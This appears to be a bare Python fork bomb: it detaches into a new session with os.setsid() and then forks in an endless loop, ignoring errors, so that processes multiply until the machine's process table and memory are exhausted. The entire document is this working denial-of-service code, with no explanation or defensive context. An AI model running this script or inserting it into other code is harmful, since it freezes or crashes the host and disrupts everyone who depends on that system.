import os

os.setsid()
while True:
    try:
        os.fork()
    except OSError:
        pass
